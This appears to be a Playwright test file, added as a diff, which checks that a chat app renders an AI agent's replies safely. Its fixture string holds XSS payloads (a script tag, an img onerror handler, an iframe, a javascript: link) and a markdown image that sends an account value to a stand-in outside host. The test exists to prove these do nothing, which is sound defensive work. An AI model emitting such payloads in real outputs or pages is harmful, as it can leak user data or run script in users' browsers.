@@ -1,0 +1,69 @@
+import type { BrowserContext, Page } from '@playwright/test'
+import { expect, test } from './fixtures/app'
+import { appOrigin, environment } from './fixtures/environment'
+import { falsifyWords } from './fixtures/network'
+
+const elsewhere = 'https://elsewhere.example'
+const words = [
+  `A picture: ![the chart](${elsewhere}/pixel.png?account=0x1)`,
+  `<img src="${elsewhere}/html.png" onerror="document.title='owned'">`,
+  `<script>document.title = 'owned'</script>`,
+  `<iframe src="${elsewhere}/frame"></iframe>`,
+  `Read [the report](${elsewhere}/report?from=chat) or [run it](javascript:document.title='owned').`,
+].join('\n\n')
+
+const ours = new Set<string>([appOrigin, environment.devnetApi, ...Object.values(environment.rpcUrl)])
+
+/** Every address that the browser asks for beside our own. */
+function strangersAsked(context: BrowserContext): string[] {
+  const asked: string[] = []
+  context.on('request', (request) => {
+    const { protocol, origin } = new URL(request.url())
+    if (protocol.startsWith('http') && !ours.has(origin)) asked.push(request.url())
+  })
+  return asked
+}
+
+const answer = (page: Page) => page.locator('article[data-role="agent"][data-status="complete"]')
+
+test('an agent’s text fetches nothing, runs nothing and goes nowhere by itself', async ({
+  signedIn: app,
+  page,
+  context,
+}) => {
+  const strangers = strangersAsked(context)
+  await falsifyWords(page, words)
+  await app.ask('hello')
+  await expect(answer(page)).toContainText('[image: the chart]')
+  await expect(answer(page).locator('img, script, iframe, a[href]')).toHaveCount(0)
+  await expect(answer(page).getByRole('button', { name: 'run it' })).toHaveCount(0)
+  await expect(answer(page)).toContainText('run it')
+  expect(await page.title()).not.toBe('owned')
+  expect(strangers).toEqual([])
+})
+
+test('a link asks before it opens, and names where it goes', async ({ signedIn: app, page, context }) => {
+  const strangers = strangersAsked(context)
+  await context.route(`${elsewhere}/**`, (route) => route.fulfill({ contentType: 'text/html', body: 'the report' }))
+  await falsifyWords(page, words)
+  await app.ask('hello')
+  const link = answer(page).getByRole('button', { name: 'the report (elsewhere.example)' })
+  const question = page.getByRole('dialog', { name: 'Leave Countersign?' })
+
+  await link.click()
+  await expect(question).toContainText(`${elsewhere}/report?from=chat`)
+  await question.getByRole('button', { name: 'Stay here' }).click()
+  await expect(question).toBeHidden()
+  expect(strangers).toEqual([])
+  expect(context.pages()).toHaveLength(1)
+
+  await link.click()
+  const opened = context.waitForEvent('page')
+  await question.getByRole('link', { name: 'Open' }).click()
+  const report = await opened
+  await expect(report.locator('body')).toHaveText('the report')
+  expect(report.url()).toBe(`${elsewhere}/report?from=chat`)
+  expect(await report.evaluate(() => window.opener), 'the site gets no hold of this page').toBeNull()
+  expect(page.url()).toContain(appOrigin)
+  expect(strangers).toEqual([`${elsewhere}/report?from=chat`])
+})
